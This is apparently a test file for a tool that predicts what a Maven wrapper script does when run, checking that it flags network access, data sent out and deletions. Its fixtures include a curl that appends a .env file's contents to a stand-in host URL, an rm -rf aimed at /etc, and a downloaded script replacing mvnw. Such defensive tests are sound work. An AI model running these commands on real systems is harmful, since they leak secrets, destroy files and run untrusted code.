import { describe, expect, test } from 'vitest'
import { effectLines } from '../../testing/effect-lines.ts'

const reads = 'while IFS== read -r key value; do url=$value; done < .mvn/wrapper/maven-wrapper.properties\n'
const fetches = 'd=$(mktemp -d)\ncurl -fsSLo "$d/m.zip" "$url"\n'
const usual = 'distributionUrl=https://repo.maven.apache.org/maven2/org/apache/maven/apache-maven/3.9.9/apache-maven-3.9.9-bin.zip\n'

const linesOf = (line: string, script: string, settings = usual): readonly string[] =>
  effectLines(line, {
    files: { '/w/mvnw': `#!/bin/sh\n${script}`, '/w/.mvn/wrapper/maven-wrapper.properties': settings, '/w/.env': 'A=1' },
  })

const reaches = (line: string): boolean => /^(?:connect|send)/.test(line)

describe('the script that brings a build tool', () => {
  test.each([
    ['fetches it from the usual place', './mvnw test', reads + fetches, usual, []],
    ['from another', './mvnw test', reads + fetches, 'distributionUrl=https://x.example/m.zip\n', ['connect:get $url']],
    [
      'after its settings were changed',
      "echo 'x=1' > .mvn/wrapper/maven-wrapper.properties; ./mvnw test",
      fetches,
      usual,
      ['connect:get $url'],
    ],
    ['with what another file holds', './mvnw test', `${reads}curl "$url?a=$(cat .env)"`, usual, [expect.stringMatching(/^send:data .*a=/)]],
    ['from a place that is written out', './mvnw test', 'curl https://x.example', usual, ['connect:get https://x.example']],
  ])('%s', (_name, line, script, settings, expected) => {
    const found = linesOf(line, script, settings).filter(reaches)
    expect(found.length > 0).toBe(expected.length > 0)
    expect(found).toEqual(expect.arrayContaining(expected))
  })

  test('is looked through again where a variable that it names is another', () => {
    expect(linesOf('./mvnw test; X=/etc ./mvnw test', 'rm -rf "$X"')).toContain('delete /etc')
  })

  test('is looked through once, however often it runs', () => {
    const long = Array.from({ length: 90 }, (_, index) => `a${index}=$(uname)\n`).join('')
    const line = Array.from({ length: 9 }, () => './mvnw -q test').join('; ')
    expect(linesOf(line, long).filter((found) => found.startsWith('unknown'))).toEqual([])
  })

  test('may be another after a download', () => {
    expect(linesOf('./mvnw test; curl -so mvnw https://x.example/m; ./mvnw test', ':').filter((line) => /^unknown/.test(line))).not.toEqual(
      [],
    )
  })
})
